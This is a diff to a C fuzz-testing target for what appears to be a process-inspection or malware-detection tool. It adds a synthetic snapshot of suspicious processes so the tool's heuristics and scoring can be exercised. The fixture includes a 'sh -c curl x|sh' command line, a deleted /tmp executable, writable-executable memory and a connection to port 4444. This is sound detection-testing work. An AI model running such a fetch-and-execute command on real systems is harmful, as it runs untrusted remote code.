@@ -6,10 +6,13 @@
  */
 #include <stdlib.h>
 #include <string.h>
+#include <sys/socket.h>
 
 #include "base/fatal.h"
+#include "heuristics/heuristic.h"
 #include "model/relations.h"
 #include "model/snapshot.h"
+#include "scoring/scoring.h"
 #include "tests/fuzz/target.h"
 
 static void add_closer_look(struct snapshot_builder *builder)
@@ -35,19 +38,26 @@ static void *make_block(size_t *ret_size)
     snapshot_builder_header(builder)->cpus = 1;
     snapshot_builder_header(builder)->page_size = 4096;
     for (int32_t pid = 1; pid < 4; pid++) {
-        struct map map = {.start = 0x1000, .end = 0x2000};
+        struct map map = {
+            .start = 0x1000, .end = 0x2000, .permissions = MAP_WRITE | MAP_EXECUTE};
         struct descriptor descriptor = {.kind = DESCRIPTOR_SOCKET, .inode = 11};
         struct process process = {
             .pid = pid,
             .ppid = pid - 1,
             .comm = snapshot_builder_text(builder, span_of_string("sshd")),
-            .cmdline = snapshot_builder_text(builder, span_of("sshd\0-D", 8)),
+            .cmdline = snapshot_builder_text(builder, span_of("sh\0-c\0curl x|sh", 16)),
+            .exe = snapshot_builder_text(builder, span_of_string("/tmp/.x/sh (deleted)")),
+            .cwd = snapshot_builder_text(builder, span_of_string("/tmp (deleted)")),
+            .tracer_pid = pid - 1,
             .maps = {snapshot_builder_add_map(builder,        &map),        1},
             .descriptors = {snapshot_builder_add_descriptor(builder, &descriptor), 1},
         };
+        memset(process.facts, FACT_KNOWN, sizeof process.facts);
         snapshot_builder_add_process(builder, &process);
     }
-    snapshot_builder_add_socket(builder, &(struct socket){.inode = 11, .family = 2});
+    snapshot_builder_add_socket(
+        builder,
+        &(struct socket){.inode = 11, .family = AF_INET, .remote_port = 4444, .local_port = 5});
     snapshot_builder_add_note(builder, 1, "something to know");
     add_closer_look(builder);
 
@@ -94,6 +104,40 @@ static size_t walk(const struct snapshot *snapshot)
     return sum;
 }
 
+/* And judge it, by a whitelist that has one entry of each kind. */
+static size_t judge(const struct snapshot *snapshot, const struct relations *relations)
+{
+    static const char *const entries[WHITELIST_KIND_COUNT] = {
+        [WHITELIST_NAME] = "a-name-longer-than-15",
+        [WHITELIST_USER] = "1000",
+        [WHITELIST_PATTERN] = "/*/x*",
+        [WHITELIST_HASH] = "00000000000000000000000000000000"
+                           "00000000000000000000000000000000",
+        [WHITELIST_PATH] = "/bin/sh",
+        [WHITELIST_RULE] = "tmp_exe pattern=s* parent=/*",
+    };
+    struct assessment assessment = {0};
+    struct scoring_options options;
+    struct scores scores = {0};
+    struct thresholds thresholds;
+
+    thresholds_init(&thresholds);
+    scoring_options_init(&options);
+    for (unsigned kind = 0; kind < WHITELIST_KIND_COUNT; kind++)
+        if (whitelist_add(&options.whitelist, kind, entries[kind]))
+            fatal("an entry is refused");
+    heuristics_assess(snapshot, relations, &thresholds, &assessment);
+    score_snapshot(snapshot, &assessment, NULL, &options, &scores);
+    thresholds.cpu_high = 0;
+    heuristics_reassess(&(struct check_context){snapshot, relations, &thresholds}, &assessment);
+    score_snapshot(snapshot, &assessment, NULL, &options, &scores);
+    size_t flagged = scores.flagged_count;
+    scores_release(&scores);
+    scoring_options_release(&options);
+    assessment_release(&assessment);
+    return flagged;
+}
+
 int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
 {
     size_t block_size;
@@ -106,7 +150,7 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
         block[(data[i] | (size_t)data[i + 1] << 8) % block_size] = data[i + 2];
     if (snapshot_open(block, block_size, &snapshot, &reason)) {
         struct relations *relations = relations_new(&snapshot);
-        sink = walk(&snapshot);
+        sink = walk(&snapshot) + judge(&snapshot, relations);
         relations_free(relations);
     }
     free(block);
